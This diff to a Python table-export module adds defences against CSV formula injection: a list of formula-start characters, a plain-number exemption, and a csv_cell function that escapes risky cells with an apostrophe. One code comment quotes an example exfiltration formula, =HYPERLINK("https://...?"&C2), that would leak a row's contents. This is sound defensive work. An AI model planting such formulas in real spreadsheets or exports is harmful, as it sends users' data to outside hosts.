@@ -141,6 +141,29 @@ class Table:
         return list(columns), [list(row) for row in rows]
 
 
+# A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that starts with one of these
+# as a formula: a rater comment `=HYPERLINK("https://...?"&C2)` would leak the row it sits in.
+FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
+# A plain number ("-0.5", "+3", "-1e-3") opens as a number, not a formula: it stays as it is.
+_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+
+
+def csv_cell(value: Any) -> Any:
+    """A CSV cell a spreadsheet opens as text, never as a formula: text starting with one of
+    FORMULA_STARTS gets a leading apostrophe (OWASP's advice); numbers, and text that is a
+    plain number, are left alone. Every CSV the workbench writes passes its cells here."""
+    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
+        return value
+    if _PLAIN_NUMBER.fullmatch(value):
+        return value
+    return "'" + value
+
+
+def csv_rows(rows: Any) -> list[list[Any]]:
+    """Rows (lists of cells) with every cell through `csv_cell`."""
+    return [[csv_cell(cell) for cell in row] for row in rows]
+
+
 # --- the formats ------------------------------------------------------------------------
 
 
@@ -150,13 +173,16 @@ def to_csv(table: Table) -> str:
     `pandas.read_csv(path, comment="#")` reads the numbers back.
     """
     if hasattr(table.data, "to_csv"):
-        body = table.data.to_csv(index=False, lineterminator="\n")
+        frame = table.data.rename(columns=csv_cell)
+        text = frame.select_dtypes(include=["object", "string"]).columns
+        frame[text] = frame[text].map(csv_cell)
+        body = frame.to_csv(index=False, lineterminator="\n")
     else:
         buffer = io.StringIO()
         writer = csv.writer(buffer, lineterminator="\n")
         columns, rows = table.raw()
-        writer.writerow(columns)
-        writer.writerows(rows)
+        writer.writerow([csv_cell(column) for column in columns])
+        writer.writerows(csv_rows(rows))
         body = buffer.getvalue()
     comments = [table.title] if table.layout.heading and table.title else []
     comments += list(table.footer)
